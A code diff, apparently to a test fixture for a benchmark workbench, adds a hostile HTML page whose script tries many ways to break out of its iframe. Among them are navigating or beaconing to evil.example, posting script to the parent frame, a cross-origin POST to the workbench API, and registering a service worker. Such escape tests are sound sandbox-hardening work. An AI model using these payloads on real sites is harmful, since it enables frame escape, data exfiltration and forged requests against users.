@@ -52,6 +52,35 @@ ATTACKS = (
     f'<div hx-get=/evil hx-trigger=load hx-on:load="{DONE}" data-key=e data-go=h>',
     f"\x1b[2J\x07 \u202e turned \u2066 <!--{DONE}--><![CDATA[{DONE}]]>",
 )
+_REACHING = f"""
+<!doctype html><title>{DONE}</title><h1>{DONE}</h1><form target=_top action=https://evil.example>
+<input name=a></form><a id=out target=_top href=https://evil.example>out</a>
+<a id=file download=x.txt href="data:text/plain,x">file</a><script>
+const tries = [
+  () => {{ parent.{DONE}; }},
+  () => {{ top.{DONE}; }},
+  () => {{ parent.document.title = "owned"; }},
+  () => {{ top.location = "https://evil.example/"; }},
+  () => {{ parent.location.hash = "owned"; }},
+  () => {{ parent.postMessage({{benchmaker: "owned", type: "load", html: "<img src=x>"}}, "*"); }},
+  () => {{ parent.postMessage("<script>{DONE}<" + "/script>", "*"); }},
+  () => {{ open("https://evil.example/", "_blank"); }},
+  () => {{ open("/", "_top"); }},
+  () => {{ document.querySelector("form").submit(); }},
+  () => {{ document.querySelector("#out").click(); }},
+  () => {{ document.querySelector("#file").click(); }},
+  () => {{ fetch("WORKBENCH/api/v1/runs/latest", {{method: "POST", mode: "no-cors"}}); }},
+  () => {{ new WebSocket("ws://evil.example/"); }},
+  () => {{ navigator.sendBeacon("https://evil.example/"); }},
+  () => {{ document.cookie = "a=b"; }},
+  () => {{ navigator.serviceWorker.register("/sw.js"); }},
+];
+for (let n = 0; n < 9; n++) alert("framed: " + n);
+for (const one of tries) {{ try {{ one(); }} catch {{}} }}
+document.body.dataset.tried = tries.length;
+</script>"""
+"""A page that tries whatever might get out of its frame."""
+
 _MODELS = ATTACKS[:6]
 _PARTS = 4
 _FORM = {"Content-Type": "application/x-www-form-urlencoded"}
@@ -81,7 +110,9 @@ def fill(home: Path) -> Names:
         submissions=numbers,
         task=ATTACKS[0],
         upload="",
-        code=code_run(home, ATTACKS, (ATTACKS[1], ATTACKS[2]), ATTACKS[2:4]),
+        code=code_run(
+            home, (_REACHING, "\n".join(ATTACKS)), (ATTACKS[1], ATTACKS[2]), ATTACKS[2:4]
+        ),
         found=ATTACKS[0],
     )
 
